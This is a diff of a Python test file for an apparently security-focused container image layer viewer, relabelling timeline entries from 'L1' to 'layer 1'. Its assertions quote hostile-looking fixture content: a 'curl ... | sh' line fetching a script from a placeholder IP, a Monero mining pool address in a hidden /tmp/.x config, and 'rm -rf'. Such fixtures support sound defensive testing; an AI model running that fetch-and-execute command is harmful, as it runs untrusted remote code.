@@ -43,7 +43,8 @@ async def open_preview(pilot, layer: int, path: str) -> FileViewer:
 
 
 def shown(screen, selector: str = "#content") -> str:
-    return screen.query_one(selector, LineView).lines.plain
+    widget = screen.query_one(selector)
+    return widget.plain if selector == "#timeline" else widget.lines.plain
 
 
 async def press(pilot, screen, *keys) -> None:
@@ -130,7 +131,7 @@ async def test_timeline_walks_versions_and_d_diffs_against_the_previous_one(demo
         await wait_for_scan(pilot, app)
         viewer = await open_preview(pilot, 5, "/usr/bin/curl")
         timeline = shown(viewer, "#timeline")
-        assert "L1  added" in timeline and "L5  modified" in timeline and "RUN apt-get update" in timeline
+        assert "layer 1  added" in timeline and "layer 5  modified" in timeline and "RUN apt-get update" in timeline
         await press(pilot, viewer, "p")
         assert viewer.entry.layer == 1
         await press(pilot, viewer, "p")  # no older version: stays
@@ -160,7 +161,7 @@ async def test_deleted_copies_are_readable_and_the_timeline_says_who_deleted_the
         viewer = await open_preview(pilot, 3, "/tmp/.x/config.json")
         assert "pool.supportxmr.com" in shown(viewer)
         timeline = shown(viewer, "#timeline")
-        assert "L3  added" in timeline and "L4  deleted" in timeline and "rm -rf" in timeline
+        assert "layer 3  added" in timeline and "layer 4  deleted" in timeline and "rm -rf" in timeline
         assert "with /tmp/.x" in timeline
         assert "not visible in the final image" in str(viewer.query_one("#meta").render())
 
@@ -251,7 +252,7 @@ async def test_i_opens_the_config_view_with_masked_env_and_every_tab(demo_source
         assert "[1 critical] ENV AWS_SECRET_ACCESS_KEY" in config and "[1 medium] VOLUME" in config
         await pilot.press("2")
         history = shown(view, "#view-history").splitlines()
-        assert history[1].split()[0] == "L1" and "RUN apt-get update && apt-get install -y curl" in history[1]
+        assert history[1].split()[:2] == ["layer", "1"] and "RUN apt-get update && apt-get install -y curl" in history[1]
         assert "ARG NPM_TOKEN" in history[2] and "empty" in history[2] and "build args: NPM_TOKEN=npm_" in history[2]
         assert "[1 medium]" in history[5] and "RUN curl -fsSL http://203.0.113.7/install.sh | sh" in history[5]
         assert "COPY app/ /srv/app/" in history[3] and "# buildkit" not in history[3]
